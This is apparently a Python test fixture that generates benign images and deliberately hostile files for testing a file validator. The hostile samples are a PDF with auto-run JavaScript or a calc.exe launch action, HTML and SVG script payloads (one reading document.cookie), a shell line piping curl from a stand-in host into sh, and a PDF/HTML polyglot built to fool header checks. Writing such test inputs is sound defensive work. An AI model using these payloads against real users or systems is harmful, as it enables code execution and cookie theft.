"""Real documents made in the test, and hostile ones."""

import io

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def png(size=(40, 30), color=(200, 10, 10)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, color).save(output, format="PNG")
    return output.getvalue()


def jpeg(size=(40, 30), color=(10, 200, 10), *, exif: bytes | None = None) -> bytes:
    output = io.BytesIO()
    image = Image.new("RGB", size, color)
    if exif is None:
        image.save(output, format="JPEG")
    else:
        image.save(output, format="JPEG", exif=exif)
    return output.getvalue()


def pdf(*, javascript: str | None = None, attachment: bytes | None = None, launch: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if javascript is not None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)}
        )
    if attachment is not None:
        writer.add_attachment("note.txt", attachment)
    if launch:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
        )
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
# A PDF header in front of an HTML page: passes a check of the first bytes, is no PDF.
POLYGLOT = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"
